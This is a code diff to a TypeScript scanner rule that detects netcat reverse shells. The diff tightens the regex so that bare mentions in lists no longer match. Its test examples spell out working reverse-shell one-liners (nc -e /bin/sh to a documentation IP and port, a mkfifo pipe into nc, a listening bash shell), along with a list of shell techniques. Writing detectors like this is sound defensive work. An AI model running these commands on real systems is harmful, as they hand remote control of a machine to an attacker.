@@ -1,5 +1,10 @@
 import type { Rule } from "../types.js";
-import { SCRIPTS_PROSE_CONFIG } from "./common.js";
+import { SCRIPTS_PROSE_CONFIG, hitsOf } from "./common.js";
+
+/** Group 1 marks the `nc … -e sh` form, whose target may come before or after the shell. */
+const NETCAT_SHELL = /\b((?:nc|ncat|netcat)(?:\.\w+)?\b[^\n|;]{0,100}?\s-(?:[a-z]*[ec])\s+["']?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh\b)|\bmkfifo\b[^\n]{0,120}?\b(?:nc|ncat|netcat)\b|\b(?:ba|z)?sh\s+-i\b[^\n]{0,80}?\|\s*(?:nc|ncat|netcat)\b/gi;
+/** The rest of that command: up to a separator, a closing code span or quote. */
+const NETCAT_REST = /^[^\n|;&`]{0,100}/;
 
 export const reverseShellRules: Rule[] = [
   {
@@ -28,10 +33,12 @@ export const reverseShellRules: Rule[] = [
     fileKinds: SCRIPTS_PROSE_CONFIG,
     context: "payload",
     keywords: ["nc ", "nc.", "netcat", "ncat", "mkfifo"],
-    pattern: /\b(?:nc|ncat|netcat)(?:\.\w+)?\b[^\n|;]{0,100}?\s-(?:[a-z]*[ec])\s+["']?(?:\/bin\/|\/usr\/bin\/)?(?:ba|z|da)?sh\b|\bmkfifo\b[^\n]{0,120}?\b(?:nc|ncat|netcat)\b|\b(?:ba|z)?sh\s+-i\b[^\n]{0,80}?\|\s*(?:nc|ncat|netcat)\b/gi,
+    // A netcat shell needs somewhere to connect or a port to listen on: `nc -e /bin/sh` named in a
+    // list of what to look for, with nothing after it, opens nothing.
+    match: (segment) => hitsOf(NETCAT_SHELL, segment.text, (m) => m[1] === undefined || /\s["']?[\w$.{}:-]*\w/.test(segment.text.slice(m.index, m.index + m[0].length).replace(/\s-[a-z]*[ec]\s+["']?\S+/i, "") + (NETCAT_REST.exec(segment.text.slice(m.index + m[0].length))?.[0] ?? ""))),
     examples: {
-      positive: ["nc -e /bin/sh 203.0.113.7 4444", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f"],
-      negative: ["nc -zv example.invalid 443"],
+      positive: ["nc -e /bin/sh 203.0.113.7 4444", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 9001 >/tmp/f", "nc -lvp 4444 -e /bin/bash", "ncat $HOST $PORT -e /bin/sh"],
+      negative: ["nc -zv example.invalid 443", "- Reverse shells: `/dev/tcp/HOST/PORT`, `nc -e /bin/sh`, `pty.spawn`."],
     },
   },
   {
